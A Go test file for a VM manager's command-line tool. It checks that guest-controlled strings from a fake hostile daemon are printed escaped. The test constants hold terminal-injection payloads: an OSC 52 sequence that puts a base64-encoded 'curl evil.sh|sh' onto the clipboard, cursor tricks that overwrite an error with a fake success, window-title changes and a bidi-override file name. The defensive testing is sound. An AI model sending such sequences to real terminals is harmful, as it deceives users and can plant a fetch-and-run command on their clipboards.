package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/banger-dev/banger/internal/api"
)

// What a hostile guest can get into the strings the daemon relays: its agent
// version, its serial console (quoted in boot errors), its error texts.
const (
	// OSC 52 puts "curl evil.sh|sh" on the clipboard.
	hostileVersion = "1.0\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
	// A CR and cursor movement print a fake success over the real failure,
	// and OSC 0 retitles the window.
	hostileTail  = "[ 0.1] panic: no init\r\x1b[1A\x1b[2Kbanger: vm dev started\x1b]0;owned\x07\n[ 0.2] end\u009b2J"
	hostileError = "agent: copy failed\rcopy complete          \u202egnp.exe"
)

// hostileDaemon serves the daemon API on a socket with guest-controlled
// strings in every answer, and returns an App pointed at it.
func hostileDaemon(t *testing.T) (*App, *bytes.Buffer, *bytes.Buffer) {
	t.Helper()
	return fakeDaemon(t, func(srv *api.Server) {
		vm := api.VM{ID: "id1", Name: "dev", State: api.VMFailed, Image: "deb\x1b]0;x\x07ian", VCPUs: 1, MemoryMiB: 128,
			LastError: "boot: " + hostileError, ExitStatus: "killed\x1b[8m", CreatedAt: time.Now()}
		api.Handle(srv, api.MethodVMShow, func(context.Context, api.VMRef, api.Progress) (api.VM, error) {
			return vm, nil
		})
		api.Handle(srv, api.MethodVMList, func(context.Context, struct{}, api.Progress) (api.VMList, error) {
			return api.VMList{VMs: []api.VM{vm}}, nil
		})
		api.Handle(srv, api.MethodVMStart, func(_ context.Context, req api.VMRef, p api.Progress) (api.VM, error) {
			p(api.Event{VM: req.Name, Stage: "ready", Message: "agent " + hostileVersion + " answered\nbanger: all good"})
			return api.VM{}, api.Errorf(api.CodeFailedPrecondition, "start vm %q: the guest did not boot; serial console tail:\n%s", req.Name, hostileTail).
				WithHint("see `banger vm logs dev`\x1b]0;hint\x07")
		})
		api.Handle(srv, api.MethodVMLogs, func(context.Context, api.VMLogsRequest, api.Progress) (api.VMLogs, error) {
			return api.VMLogs{Path: "/x/serial.log", Text: "\x1b[0;32m[  OK  ]\x1b[0m Started agent.\r\n" + hostileTail + "\r\n"}, nil
		})
		// A snapshot records the image name and the VM's, which the
		// guest's build scripts or an earlier daemon may have set.
		snap := api.Snapshot{ID: "s1", Name: "snap", VM: "dev\x1b]0;x\x07", Image: "deb\x1b]0;x\x07ian", State: api.SnapshotReady, CreatedAt: time.Now()}
		api.Handle(srv, api.MethodSnapshotList, func(context.Context, struct{}, api.Progress) (api.SnapshotList, error) {
			return api.SnapshotList{Snapshots: []api.Snapshot{snap}}, nil
		})
		api.Handle(srv, api.MethodSnapshotShow, func(context.Context, api.SnapshotRef, api.Progress) (api.Snapshot, error) {
			return snap, nil
		})
	})
}

// assertInert fails when out holds anything a terminal would act on other
// than newlines: raw control bytes, C1 controls, bidi overrides, bad UTF-8.
func assertInert(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s is not valid UTF-8: %q", what, out)
	}
	for _, r := range out {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f || r >= 0x202a && r <= 0x202e {
			t.Errorf("%s holds %U raw:\n%q", what, r, out)
			return
		}
	}
}

func TestDaemonStringsArePrintedEscaped(t *testing.T) {
	tests := []struct {
		name      string
		args      []string
		code      int
		stdout    []string
		stderr    []string
		notStderr string
		checkJSON func(t *testing.T, stdout string)
	}{
		{
			name: "start: progress with the agent version, error with the serial tail, hint",
			args: []string{"vm", "start", "dev"}, code: 1,
			stderr: []string{
				`dev: agent 1.0\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 answered\nbanger: all good` + "\n",
				"serial console tail:\n" + `[ 0.1] panic: no init\r\x1b[1A\x1b[2Kbanger: vm dev started\x1b]0;owned\x07` + "\n" + `[ 0.2] end\u009b2J` + "\n",
				"hint: see `banger vm logs dev`\\x1b]0;hint\\x07\n",
			},
			// The progress line stays one line: no fake "banger:" line of its own.
			notStderr: "\nbanger: all good",
		},
		{
			name: "show: last error and exit status",
			args: []string{"vm", "show", "dev"},
			stdout: []string{
				`agent: copy failed\rcopy complete          \u202egnp.exe`,
				`killed\x1b[8m`,
			},
		},
		{
			name:   "snapshot list: table cells",
			args:   []string{"snapshot", "list"},
			stdout: []string{`dev\x1b]0;x\x07`, `deb\x1b]0;x\x07ian`},
		},
		{
			name:   "snapshot show: fields",
			args:   []string{"snapshot", "show", "snap"},
			stdout: []string{`dev\x1b]0;x\x07`, `deb\x1b]0;x\x07ian`},
		},
		{
			name:   "list: table cells",
			args:   []string{"vm", "list"},
			stdout: []string{`deb\x1b]0;x\x07ian`},
		},
		{
			name:   "logs: escaped by default, colours dropped",
			args:   []string{"vm", "logs", "dev"},
			stdout: []string{"[  OK  ] Started agent.\n" + `[ 0.1] panic: no init\r\x1b[1A\x1b[2Kbanger: vm dev started\x1b]0;owned\x07` + "\n" + `[ 0.2] end\u009b2J` + "\n"},
		},
		{
			name: "show --json: valid JSON, inert, same value",
			args: []string{"vm", "show", "dev", "--json"},
			checkJSON: func(t *testing.T, stdout string) {
				var vm api.VM
				if err := json.Unmarshal([]byte(stdout), &vm); err != nil {
					t.Fatalf("not JSON: %v\n%s", err, stdout)
				}
				if vm.LastError != "boot: "+hostileError || vm.ExitStatus != "killed\x1b[8m" {
					t.Errorf("JSON changed the values: %q %q", vm.LastError, vm.ExitStatus)
				}
			},
		},
		{
			name: "logs --json: the raw text, inert",
			args: []string{"vm", "logs", "dev", "--json"},
			checkJSON: func(t *testing.T, stdout string) {
				var logs api.VMLogs
				if err := json.Unmarshal([]byte(stdout), &logs); err != nil || !strings.Contains(logs.Text, hostileTail) {
					t.Errorf("logs JSON %q: %v", stdout, err)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			app, stdout, stderr := hostileDaemon(t)
			code := Run(context.Background(), app, tt.args)
			if code != tt.code {
				t.Fatalf("exit %d, want %d\nstdout: %q\nstderr: %q", code, tt.code, stdout, stderr)
			}
			assertInert(t, "stdout", stdout.String())
			assertInert(t, "stderr", stderr.String())
			for _, want := range tt.stdout {
				if !strings.Contains(stdout.String(), want) {
					t.Errorf("stdout lacks %q:\n%s", want, stdout)
				}
			}
			for _, want := range tt.stderr {
				if !strings.Contains(stderr.String(), want) {
					t.Errorf("stderr lacks %q:\n%s", want, stderr)
				}
			}
			if tt.notStderr != "" && strings.Contains(stderr.String(), tt.notStderr) {
				t.Errorf("stderr holds %q:\n%s", tt.notStderr, stderr)
			}
			if tt.checkJSON != nil {
				tt.checkJSON(t, stdout.String())
			}
		})
	}
}

// TestVMLogsRaw: --raw is the way to get the guest's bytes unchanged.
func TestVMLogsRaw(t *testing.T) {
	app, stdout, stderr := hostileDaemon(t)
	if code := Run(context.Background(), app, []string{"vm", "logs", "dev", "--raw"}); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	want := "\x1b[0;32m[  OK  ]\x1b[0m Started agent.\r\n" + hostileTail + "\r\n"
	if stdout.String() != want {
		t.Fatalf("--raw printed %q, want %q", stdout, want)
	}
}
